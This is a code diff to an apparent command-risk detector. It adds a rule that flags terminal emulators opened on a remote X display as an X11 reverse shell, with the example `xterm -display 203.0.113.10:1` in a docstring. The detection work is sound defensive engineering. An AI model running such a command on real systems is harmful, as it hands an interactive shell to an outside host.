@@ -36,6 +36,7 @@ from scoring.evidence import (
     CREDENTIAL_ACCESS,
     DEFENSE_EVASION,
     DISCOVERY,
+    EXECUTION,
     EXFILTRATION,
     IMPACT,
     PERSISTENCE,
@@ -912,6 +913,17 @@ def _account_calls(command: Command) -> list[Evidence]:
     if _ACCOUNT_CALLS.search(" ".join(command.args)[:MAX_OPERAND * 4]):
         return [Evidence(0.55, f"{command.program} creates an account or sets a password over D-Bus", "T1136.001",
                          PERSISTENCE)]
+    return []
+
+
+def _remote_display(command: Command) -> list[Evidence]:
+    """`xterm -display 203.0.113.10:1`: a terminal opened on someone else's X server, a shell handed over the
+    network (an X11 reverse shell). SSH's forwarding shows as localhost:10."""
+    displays = option_values(command, ("-display", "--display"))
+    host = displays[0].rpartition(":")[0] if displays else ""
+    if host and host != "unix" and address_class(host) not in ("loopback", ""):
+        return [Evidence(0.6, f"{command.program} opens a terminal on a remote display ({displays[0][:60]})",
+                         "T1059.004", EXECUTION)]
     return []
 
 
@@ -1963,6 +1975,7 @@ for _check, _programs in (
     (_module_builds, ("make",)),
     (_account_calls, ("dbus-send", "gdbus", "busctl", "qdbus")),
     (_password_prompts, ("read",)),
+    (_remote_display, ("xterm", "uxterm", "rxvt", "urxvt", "xfce4-terminal", "gnome-terminal", "konsole")),
 ):
     for _program in dict.fromkeys(_programs):  # a program named twice (curl: downloader, address probe) checked once
         _CHECKS_BY_PROGRAM[_program] = (*_CHECKS_BY_PROGRAM.get(_program, ()), _check)
